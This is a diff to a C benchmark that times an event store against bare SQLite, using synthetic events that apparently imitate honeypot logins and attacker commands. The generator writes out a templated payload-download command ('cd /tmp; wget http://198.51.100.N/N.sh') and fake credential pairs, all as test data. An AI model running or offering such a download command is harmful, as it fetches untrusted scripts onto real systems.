@@ -1,18 +1,24 @@
 /* The store against bare SQLite: events in with all tallies, and how long questions take.
  *
- *   store_bench [EVENTS [DAYS [SOURCES]]]     default 1000000 90 100000
+ *   store_bench [EVENTS [DAYS [SOURCES [PASSWORDS]]]]     default 1000000 90 100000 50000
  *
  * Ours is timed from the JSON line on: reading it, looking everything up, rows, sums, commits, and
  * putting days together. Bare inserts the finished rows into the same tables with the same indexes,
  * pragmas and batch size, in the same run: events chunk by chunk in turn with ours, so that both
  * meet the same machine, then those of the other tables (words, sessions, sources, credentials),
- * each once and final. The ratio without those is printed too.
+ * each once and final. The ratio without those is printed too, and that of processor time, which
+ * what else the machine does changes less.
+ *
+ * What a question costs depends on the number of keys that it adds up, so that is printed as well.
+ * More events have more different keys unless SOURCES and PASSWORDS are so few that all of them
+ * come every hour.
  */
 #include <fcntl.h>
 #include <math.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <sys/stat.h>
+#include <time.h>
 #include <unistd.h>
 
 #include <sqlite3.h>
@@ -27,15 +33,13 @@
 #define CHUNK      STORE_BATCH_MAX
 #define COLUMNS    24                             /* at most, of any table */
 #define START      (INT64_C(1767225600) * SECOND) /* 2026-01-01 */
-#define USERS      5000
-#define PASSWORDS  50000
 #define SENSORS    9
 #define QUERY_RUNS 5
 
 struct generator {
 	uint64_t state;
 	struct ulid_source ids, session_ids;
-	int64_t events, days, sources;
+	int64_t events, days, sources, passwords;
 	int64_t made;
 	char session[ULID_LENGTH + 1];
 	int step, steps, sensor, protocol;
@@ -76,7 +80,7 @@ static void start_session(struct generator *g, int64_t time)
 
 static void describe(struct generator *g, struct event *event, char words[][64])
 {
-	int user, password, payload;
+	int users = (int)(g->passwords / 10 + 1), user, password, payload;
 
 	event_set_words(event, FIELD_SESSION_ID, g->session);
 	event_set_words(event, FIELD_NETWORK_PROTOCOL, protocols[g->protocol].name);
@@ -96,9 +100,9 @@ static void describe(struct generator *g, struct event *event, char words[][64])
 	} else if (g->step < 5) {
 		event_set_words(event, FIELD_EVENT_ACTION, "auth.attempt");
 		/* Attackers work through lists of pairs: mostly the password says the user. */
-		password = (int)zipf(g, PASSWORDS);
-		user = draw(g) % 10 ? password * 7919 % USERS / (1 + password % 97)
-				    : (int)zipf(g, USERS);
+		password = (int)zipf(g, g->passwords);
+		user = draw(g) % 10 ? (int)((int64_t)password * 7919 % users) / (1 + password % 97)
+				    : (int)zipf(g, users);
 		snprintf(words[1], sizeof(words[1]), "user%d", user);
 		snprintf(words[2], sizeof(words[2]), "Passw0rd%d", password);
 		event_set_words(event, FIELD_USER_NAME, words[1]);
@@ -106,7 +110,7 @@ static void describe(struct generator *g, struct event *event, char words[][64])
 		event_set_words(event, FIELD_EVENT_OUTCOME, draw(g) % 50 ? "failure" : "success");
 	} else {
 		event_set_words(event, FIELD_EVENT_ACTION, "command.input");
-		payload = (int)zipf(g, 20000);
+		payload = (int)zipf(g, g->passwords * 2 / 5 + 1);
 		snprintf(words[1], sizeof(words[1]), "cd /tmp; wget http://198.51.100.%d/%d.sh",
 			 payload % 255, payload);
 		event_set_words(event, FIELD_COMMAND, words[1]);
@@ -144,14 +148,39 @@ static void generate(struct generator *g, struct writer *line)
 
 /* --- ours --- */
 
+struct taken {
+	double seconds, processor;
+};
+
+static double processor_seconds(void)
+{
+	struct timespec now;
+
+	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &now);
+	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
+}
+
 static double seconds_since(int64_t start)
 {
 	return (double)(clock_monotonic() - start) / 1e6;
 }
 
-static double ingest(struct store *store, const struct writer *lines, size_t count)
+static struct taken start_taking(void)
 {
-	int64_t start = clock_monotonic();
+	return (struct taken){(double)clock_monotonic() / 1e6, processor_seconds()};
+}
+
+/* Adds what passed since start. */
+static void take(struct taken *sum, struct taken start)
+{
+	sum->seconds += (double)clock_monotonic() / 1e6 - start.seconds;
+	sum->processor += processor_seconds() - start.processor;
+}
+
+static void ingest(struct store *store, const struct writer *lines, size_t count,
+		   struct taken *taken)
+{
+	struct taken start = start_taking();
 	struct spool_position after = {1, 0};
 
 	for (size_t i = 0; i < count; i++) {
@@ -166,7 +195,7 @@ static double ingest(struct store *store, const struct writer *lines, size_t cou
 	}
 	while (store_tend(store) > 0)
 		continue;
-	return seconds_since(start);
+	take(taken, start);
 }
 
 /* --- bare --- */
@@ -240,12 +269,14 @@ static void bare_open(struct bare *bare, int ours_fd, int bare_fd)
 	must(sqlite3_open_v2(name, &bare->from, SQLITE_OPEN_READONLY, "unix"), bare->from);
 	if (sqlite_folder_name(bare_fd, "bare.db", name) < 0)
 		fatal("no name");
-	must(sqlite3_open_v2(name, &bare->to, SQLITE_OPEN_READWRITE | SQLITE_OPEN_CREATE, "unix"),
+	must(sqlite3_open_v2(name, &bare->to,
+			     SQLITE_OPEN_READWRITE | SQLITE_OPEN_CREATE | SQLITE_OPEN_NOMUTEX,
+			     "unix"),
 	     bare->to);
 	must(sqlite3_exec(bare->to,
 			  "PRAGMA auto_vacuum=INCREMENTAL; PRAGMA journal_mode=WAL;"
 			  "PRAGMA synchronous=NORMAL; PRAGMA cache_size=-24576;"
-			  "PRAGMA wal_autocheckpoint=4000",
+			  "PRAGMA wal_autocheckpoint=8000; PRAGMA journal_size_limit=33554432",
 			  NULL, NULL, NULL),
 	     bare->to);
 	if (schema_prepare(bare->to, why, sizeof(why)) < 0)
@@ -263,10 +294,9 @@ static void bare_open(struct bare *bare, int ours_fd, int bare_fd)
 		fatal("no memory");
 }
 
-static double bare_insert(struct bare *bare, int64_t after, size_t count)
+static void bare_insert(struct bare *bare, int64_t after, size_t count, struct taken *taken)
 {
-	int64_t start;
-	double seconds;
+	struct taken start;
 
 	writer_clear(&bare->bytes);
 	sqlite3_bind_int64(bare->select, 1, after);
@@ -277,7 +307,7 @@ static double bare_insert(struct bare *bare, int64_t after, size_t count)
 		keep_row(bare, bare->select, &bare->cells[i * COLUMNS]);
 	}
 	sqlite3_reset(bare->select);
-	start = clock_monotonic();
+	start = start_taking();
 	for (size_t i = 0; i < count; i++) {
 		if (i % STORE_BATCH_MAX == 0)
 			must(sqlite3_exec(bare->to, "BEGIN", NULL, NULL, NULL), bare->to);
@@ -285,17 +315,15 @@ static double bare_insert(struct bare *bare, int64_t after, size_t count)
 		if ((i + 1) % STORE_BATCH_MAX == 0 || i + 1 == count)
 			must(sqlite3_exec(bare->to, "COMMIT", NULL, NULL, NULL), bare->to);
 	}
-	seconds = seconds_since(start);
-	return seconds;
+	take(taken, start);
 }
 
-/* All rows of a table that is no event; returns seconds spent inserting. */
-static double bare_copy(struct bare *bare, const char *table)
+/* All rows of a table that is no event. */
+static void bare_copy(struct bare *bare, const char *table, struct taken *taken)
 {
 	char sql[256];
 	sqlite3_stmt *select, *insert;
 	int columns, answer;
-	double seconds = 0;
 
 	snprintf(sql, sizeof(sql), "SELECT * FROM %s", table);
 	must(sqlite3_prepare_v2(bare->from, sql, -1, &select, NULL), bare->from);
@@ -305,21 +333,20 @@ static double bare_copy(struct bare *bare, const char *table)
 	must(sqlite3_prepare_v2(bare->to, sql, -1, &insert, NULL), bare->to);
 	do {
 		size_t count = 0;
-		int64_t start;
+		struct taken start;
 
 		writer_clear(&bare->bytes);
 		while (count < CHUNK && (answer = sqlite3_step(select)) == SQLITE_ROW)
 			keep_row(bare, select, &bare->cells[count++ * COLUMNS]);
-		start = clock_monotonic();
+		start = start_taking();
 		must(sqlite3_exec(bare->to, "BEGIN", NULL, NULL, NULL), bare->to);
 		for (size_t i = 0; i < count; i++)
 			insert_row(bare, insert, &bare->cells[i * COLUMNS]);
 		must(sqlite3_exec(bare->to, "COMMIT", NULL, NULL, NULL), bare->to);
-		seconds += seconds_since(start);
+		take(taken, start);
 	} while (answer == SQLITE_ROW);
 	sqlite3_finalize(select);
 	sqlite3_finalize(insert);
-	return seconds;
 }
 
 static void bare_close(struct bare *bare)
@@ -340,7 +367,8 @@ static bool pass_event(void *context, const struct query_event *event)
 	return true;
 }
 
-static void ask_top(struct store *store, const char *dimension, const struct query_range *range)
+/* Returns the number of keys. */
+static int64_t ask_top(struct store *store, const char *dimension, const struct query_range *range)
 {
 	struct query_rows rows;
 
@@ -348,19 +376,22 @@ static void ask_top(struct store *store, const char *dimension, const struct que
 		      &rows) < 0)
 		fatal("top: %s", store_problem(store));
 	query_rows_free(&rows);
+	return rows.distinct;
 }
 
-static void ask(struct store *store, const char *what, const struct query_range *range)
+/* Returns the number of keys that were added up, or 0. */
+static int64_t ask(struct store *store, const char *what, const struct query_range *range)
 {
 	struct query_totals totals;
 	struct query_point *points;
 	struct query_filter filter = query_filter_any();
 	size_t count;
-	int64_t sum = 0;
+	int64_t sum = 0, keys = 0;
 	int result = 0;
 
 	if (strcmp(what, "totals") == 0) {
 		result = query_totals(store, range, &totals);
+		keys = totals.sources + totals.countries;
 	} else if (strcmp(what, "timeline") == 0) {
 		result = query_timeline(store, range, DAY, &points, &count);
 		free(points);
@@ -368,10 +399,11 @@ static void ask(struct store *store, const char *what, const struct query_range 
 		filter.range = *range;
 		result = query_events(store, &filter, pass_event, &sum, NULL);
 	} else {
-		ask_top(store, what, range);
+		keys = ask_top(store, what, range);
 	}
 	if (result < 0)
 		fatal("%s: %s", what, store_problem(store));
+	return keys;
 }
 
 static void time_questions(int fd, int64_t end)
@@ -384,9 +416,11 @@ static void time_questions(int fd, int64_t end)
 	static const int days[] = {1, 7, 30, 0};
 	char why[256];
 
-	printf("%-18s%10s%10s%10s%10s   ms, best of %d, own connection each\n", "question", "24h",
-	       "7d", "30d", "all", QUERY_RUNS);
+	printf("%-18s%10s%10s%10s%10s%10s%10s   ms, best of %d, own connection each\n", "question",
+	       "24h", "7d", "30d", "all", "keys 24h", "keys all", QUERY_RUNS);
 	for (size_t q = 0; q < ARRAY_COUNT(questions); q++) {
+		int64_t keys[ARRAY_COUNT(days)] = {0};
+
 		printf("%-18s", questions[q]);
 		for (size_t d = 0; d < ARRAY_COUNT(days); d++) {
 			struct query_range range = {days[d] ? end - days[d] * DAY : 0, 0, NULL};
@@ -399,14 +433,15 @@ static void time_questions(int fd, int64_t end)
 
 				if (!store)
 					fatal("%s", why);
-				ask(store, questions[q], &range);
+				keys[d] = ask(store, questions[q], &range);
 				store_close(store);
 				if (seconds_since(start) < best)
 					best = seconds_since(start);
 			}
 			printf("%10.2f", best * 1e3);
 		}
-		printf("\n");
+		printf("%10lld%10lld\n", (long long)keys[0],
+		       (long long)keys[ARRAY_COUNT(days) - 1]);
 	}
 }
 
@@ -433,14 +468,17 @@ static void clear(int fd, const char *file)
 
 int main(int argc, char **argv)
 {
-	struct generator g = {
-		.state = 88172645463325252u, .events = 1000000, .days = 90, .sources = 100000};
+	struct generator g = {.state = 88172645463325252u,
+			      .events = 1000000,
+			      .days = 90,
+			      .sources = 100000,
+			      .passwords = 50000};
 	char scratch[] = "/tmp/store-bench-XXXXXX", why[256];
 	struct writer *lines = calloc(CHUNK, sizeof(*lines));
 	struct bare bare = {0};
 	struct store_status status;
 	struct store *store;
-	double ours = 0, events_only = 0, theirs;
+	struct taken ours = {0}, theirs = {0}, events_only;
 	int ours_fd, bare_fd;
 
 	if (argc > 1)
@@ -449,6 +487,8 @@ int main(int argc, char **argv)
 		g.days = strtoll(argv[2], NULL, 10);
 	if (argc > 3)
 		g.sources = strtoll(argv[3], NULL, 10);
+	if (argc > 4)
+		g.passwords = strtoll(argv[4], NULL, 10);
 	if (!lines || !mkdtemp(scratch))
 		fatal("no scratch folder: %m");
 	ours_fd = folder(scratch, "ours");
@@ -465,19 +505,26 @@ int main(int argc, char **argv)
 
 		for (; count < CHUNK && g.made < g.events; count++)
 			generate(&g, &lines[count]);
-		ours += ingest(store, lines, count);
-		events_only += bare_insert(&bare, before, count);
+		ingest(store, lines, count, &ours);
+		bare_insert(&bare, before, count, &theirs);
 	}
-	theirs = events_only + bare_copy(&bare, "word") + bare_copy(&bare, "source") +
-		 bare_copy(&bare, "session") + bare_copy(&bare, "credential");
+	events_only = theirs;
+	bare_copy(&bare, "word", &theirs);
+	bare_copy(&bare, "source", &theirs);
+	bare_copy(&bare, "session", &theirs);
+	bare_copy(&bare, "credential", &theirs);
 	if (store_status(store, &status) < 0)
 		fatal("%s", store_problem(store));
 	printf("%lld events, %lld days: ours %.0f/s, bare %.0f/s, ratio %.2f (event rows only: "
-	       "%.0f/s, "
-	       "%.2f); %.0f bytes an event, lines of %zu\n",
-	       (long long)g.events, (long long)g.days, (double)g.events / ours,
-	       (double)g.events / theirs, theirs / ours, (double)g.events / events_only,
-	       events_only / ours, (double)status.bytes / (double)g.events, lines[0].length);
+	       "%.0f/s, %.2f)\n",
+	       (long long)g.events, (long long)g.days, (double)g.events / ours.seconds,
+	       (double)g.events / theirs.seconds, theirs.seconds / ours.seconds,
+	       (double)g.events / events_only.seconds, events_only.seconds / ours.seconds);
+	printf("each processor second: ours %.0f, bare %.0f, ratio %.2f\n",
+	       (double)g.events / ours.processor, (double)g.events / theirs.processor,
+	       theirs.processor / ours.processor);
+	printf("%.0f bytes an event, lines of %zu\n", (double)status.bytes / (double)g.events,
+	       lines[0].length);
 	fflush(stdout);
 	store_close(store);
 	time_questions(ours_fd, START + g.days * DAY);
